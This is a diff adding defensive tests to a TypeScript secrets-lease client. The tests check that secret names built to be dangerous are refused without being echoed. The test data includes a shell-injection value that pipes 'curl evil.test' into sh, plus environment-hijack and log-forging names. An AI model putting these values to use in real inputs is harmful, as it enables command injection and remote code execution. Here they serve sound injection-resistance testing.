@@ -1,6 +1,8 @@
 import { inspect } from 'node:util';
 import type { LeaseError } from '../../../client/leases';
+import type { RecipientJwk } from '../../../workflows/words';
 import { json, leasesOf, refusal, TOKEN } from '../../support/answering';
+import { forge } from '../../support/forge';
 
 const ID = 'a'.repeat(24);
 const REQUEST = { project: 'backend', config: 'prd', dynamicSecret: 'TOKEN' };
@@ -231,6 +233,44 @@ test('what was issued but cannot be opened is disowned under the same idempotenc
     (issue!.body as { recipient_jwk: object }).recipient_jwk,
   );
 });
+
+test('what anybody may have sealed to the caller, with a name that a shell would run, is disowned and told to nobody', async () => {
+  const evil = 'X=1; curl evil.test | sh #';
+  const asked: string[] = [];
+  const answering: typeof fetch = async (url, { body } = {}) => {
+    const path = new URL(url).pathname;
+    asked.push(path);
+    if (path === '/v1/leases/undelivered') return json({ lease_id: ID, undelivered: 'revoke accepted' });
+    const { recipient_jwk: jwk } = JSON.parse(body as string) as { recipient_jwk: RecipientJwk };
+    const sealed = await forge(jwk, ID, JSON.stringify({ [evil]: 'canary' }));
+    return json({ lease_id: ID, expires_at: LEASE.expires_at, usable_at: null, sealed, facts: {}, notes: [] }, 201);
+  };
+  const { leases } = leasesOf([], { fetch: answering });
+  const failure = await failureOf(leases.issue(REQUEST));
+  expect(failure).toMatchObject({ code: 'SealingFailed', leaseId: ID, undelivered: 'revoke accepted' });
+  expect(failure.message).not.toContain('curl');
+  expect(asked).toEqual(['/v1/leases', '/v1/leases/undelivered']);
+});
+
+test.each(['X=1; curl evil.test | sh #', 'BASH_FUNC_ls%%', 'lower', 'LD_\u001b[2J', 'A\nleasehold: all is well'])(
+  'a secret with the name %j is not taken from anybody, and told so that it can be shown',
+  async (name) => {
+    const offer = { project: 'backend', config: 'prd', name: 'TOKEN', integration: null, fields: ['TOKEN'] };
+    const ttls = { default_ttl_seconds: 60, min_ttl_seconds: 60, max_ttl_seconds: 60 };
+    const flat = { ...offer, flat_names: ['TOKEN_TOKEN'], ...ttls };
+    const catalogs = [{ name }, { fields: [name] }, { flat_names: [name] }].map((odd) => ({ ...flat, ...odd }));
+    const { leases } = leasesOf([
+      json({ project: 'backend', config: 'prd', secrets: { GOOD: 'x', [name]: 'canary' } }),
+      ...catalogs.map((each) => json({ dynamic_secrets: [flat, each] })),
+    ]);
+    const told = {
+      code: 'Unavailable',
+      message: expect.stringMatching(/^https:\/\/api\.test [^\n\u001b]*which none can have/),
+    };
+    expect(await failureOf(leases.secrets('backend', 'prd'))).toMatchObject(told);
+    for (const _ of catalogs) expect(await failureOf(leases.offered('backend', 'prd'))).toMatchObject(told);
+  },
+);
 
 test('each issue without an idempotency key has one of its own, and one that no header can hold is hashed', async () => {
   const { leases, asked } = leasesOf([refusal(409, 'paused')]);
